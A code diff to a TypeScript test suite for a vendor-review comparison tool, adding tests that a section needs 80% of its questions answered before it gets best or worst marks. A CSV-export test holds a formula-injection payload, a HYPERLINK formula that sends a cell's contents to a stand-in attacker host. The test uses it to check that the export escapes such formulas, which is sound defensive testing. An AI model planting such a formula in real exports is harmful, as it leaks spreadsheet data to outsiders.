@@ -5,6 +5,8 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import {
   MAX_COMPARE_PROVIDERS,
+  SECTION_COMPARABLE_SHARE,
+  answeredEnough,
   comparisonToCsv,
   compareProviders,
   csvField,
@@ -17,7 +19,7 @@ import { toAnswerMap } from '../../shared/domain/review';
 import { Template } from '../../shared/domain/template';
 import type { Question } from '../../shared/domain/template';
 import type { Vendor } from '../../shared/domain/vendor';
-import { scoreReview } from '../../shared/scoring';
+import { DEFAULT_SCORING_OPTIONS, scoreReview } from '../../shared/scoring';
 import { checkTemplate } from '../../shared/templates/check';
 import { INFRASTRUCTURE_TEMPLATE } from '../../shared/templates/infrastructure';
 import { answer, answersFor, review, vendor } from '../helpers/review-fixtures';
@@ -335,7 +337,12 @@ describe('compareProviders', () => {
       ['not_started', null, null, null, 0, null],
     );
     for (const s of c.sections) {
-      assert.deepEqual(s.cells[1], { providerId: 'newcomer', score: null, covers: { answered: 0, total: 0, asked: false } });
+      assert.deepEqual(s.cells[1], {
+        providerId: 'newcomer',
+        score: null,
+        covers: { answered: 0, total: 0, asked: false },
+        tooLittleAnswered: false,
+      });
       assert.deepEqual([s.best, s.worst], [[], []]);
       for (const q of s.questions) assert.equal(q.cells[1]!.status, 'not_asked');
     }
@@ -358,6 +365,88 @@ describe('compareProviders', () => {
     assert.equal(JSON.stringify(a), JSON.stringify(b));
     assert.equal(comparisonToCsv(a), comparisonToCsv(b));
     assert.deepEqual(entries, before);
+  });
+});
+
+// ─────────────────────────────────────────────────────────────────────── enough answered to compare
+
+/** Every question of `template` left unanswered, except `keep` (best answers). */
+function onlyAnswered(template: Template, keep: readonly string[]): Answer[] {
+  const unanswered = template.sections.flatMap((s) => s.questions.filter((q) => !keep.includes(q.id)).map((q) => [q.id, null]));
+  return answersFor(template, Object.fromEntries(unanswered));
+}
+
+/** Barely reviewed (v1): one security question answered, with the best answer (a section score of 100). */
+function barely(): CompareEntry {
+  return entry(vendor('barely', 'Barely Reviewed'), V1, onlyAnswered(V1, ['sec_encryption_in_transit']));
+}
+
+describe('section marks need enough answers', () => {
+  test('the threshold is the scoring\'s completion threshold: 80 %, exactly 80 % is enough', () => {
+    assert.equal(SECTION_COMPARABLE_SHARE, DEFAULT_SCORING_OPTIONS.completionThreshold);
+    assert.equal(SECTION_COMPARABLE_SHARE, 0.8);
+    assert.deepEqual(
+      [answeredEnough(4, 5), answeredEnough(3, 5), answeredEnough(8, 10), answeredEnough(7, 9), answeredEnough(8, 9), answeredEnough(0, 0)],
+      [true, false, true, false, true, true],
+    );
+  });
+
+  test('decided as scoreReview decides a review complete, for every count up to 20', () => {
+    const base = V1.sections[0]!;
+    const yesno = base.questions.find((q) => q.id === 'sec_encryption_in_transit')!;
+    for (let total = 1; total <= 20; total++) {
+      const questions = Array.from({ length: total }, (_, i) => ({ ...yesno, id: `q${i}` }));
+      const template = Template.parse({ ...V1, sections: [{ ...base, flags: [], questions }] });
+      for (let answered = 0; answered <= total; answered++) {
+        const answers = toAnswerMap(questions.slice(0, answered).map((q) => answer(q.id, 'yes')));
+        const state = scoreReview(template, answers, vendor('v', 'V')).state;
+        assert.equal(answeredEnough(answered, total), state === 'scored', `${answered} of ${total}`);
+      }
+    }
+  });
+
+  test('a barely answered provider never gets Best, though its 100.0 is the highest score', () => {
+    const c = compareProviders([ledgerly(), lumen(), barely()]);
+    const security = section(c, 'security');
+    const [ledger, lumenCell, barelyCell] = security.cells;
+    assert.equal(barelyCell!.score, 100);
+    // 8 counted: the key question shows only once encryption at rest is answered.
+    assert.deepEqual(barelyCell!.covers, { answered: 1, total: 8, asked: true });
+    assert.equal(barelyCell!.tooLittleAnswered, true);
+    assert.ok(lumenCell!.score! < ledger!.score! && ledger!.score! < 100, 'the providers answered enough score lower');
+    assert.deepEqual([ledger!.tooLittleAnswered, lumenCell!.tooLittleAnswered], [false, false]);
+    // Best and worst among the two providers answered enough only.
+    assert.deepEqual(security.best, ['ledgerly']);
+    assert.deepEqual(security.worst, ['lumen']);
+    for (const s of c.sections) {
+      assert.ok(s.cells[2]!.tooLittleAnswered, `${s.sectionId}: barely answered everywhere`);
+      assert.ok(!s.best.includes('barely') && !s.worst.includes('barely'), s.sectionId);
+    }
+    // Its answers are still compared question by question: an answer is an answer.
+    assert.ok(row(c, 'sec_encryption_in_transit').cells[2]!.status === 'answered');
+  });
+
+  test('a complete provider gets Best against another complete one; against a barely answered one, nobody is marked', () => {
+    const complete = compareProviders([lumen(), ledgerly()]);
+    assert.deepEqual(section(complete, 'access-granularity').best, ['ledgerly']);
+    assert.deepEqual(section(complete, 'access-granularity').worst, ['lumen']);
+    const lopsided = compareProviders([ledgerly(), barely()]);
+    for (const s of lopsided.sections) assert.deepEqual([s.best, s.worst], [[], []], s.sectionId);
+    assert.ok(section(lopsided, 'security').differs, 'the section still counts as differing');
+  });
+
+  test('a section with 80 % answered is compared; one question fewer and it is not', () => {
+    // v1 security counts 9 questions (3 optional, key management shown): 8 of 9 is 88.9 %, 7 of 9 is 77.8 %.
+    const skip = (ids: string[]) => entry(vendor(`skip${ids.length}`, `Skips ${ids.length}`), V1, answersFor(V1, Object.fromEntries(ids.map((id) => [id, null]))));
+    const c = compareProviders([skip(['sec_pentest']), skip(['sec_pentest', 'sec_certifications']), burrow()]);
+    const security = section(c, 'security');
+    assert.deepEqual(security.cells.map((x) => [x.covers.answered, x.covers.total, x.tooLittleAnswered]), [
+      [8, 9, false],
+      [7, 9, true],
+      [9, 9, false],
+    ]);
+    assert.ok(![...security.best, ...security.worst].includes('skip2'));
+    assert.ok([...security.best, ...security.worst].includes('skip1'));
   });
 });
 
@@ -484,6 +573,13 @@ describe('comparisonToCsv', () => {
     assert.equal(out[0]![4], `'=HYPERLINK("http://attacker.example/?"&A1,"Click")`);
     assert.equal(out[0]![6], `'=HYPERLINK("http://attacker.example/?"&A1,"Click") points lost`);
     for (const r of out) for (const field of r) assert.ok(!/^[=+\-@\t\r]/.test(field), JSON.stringify(field));
+  });
+
+  test('a section answered too little reads "Too little answered", with no score', () => {
+    const out = parseCsv(comparisonToCsv(compareProviders([ledgerly(), barely()])).slice(1));
+    const security = out.find((r) => r[0] === 'Security' && r[2] === 'Section score')!;
+    assert.match(security[3]!, /^\d+\.\d \(9 of 9 answered\)$/);
+    assert.equal(security[4], 'Too little answered (1 of 8 answered)');
   });
 
   test('a filtered comparison exports only the rows it kept', () => {
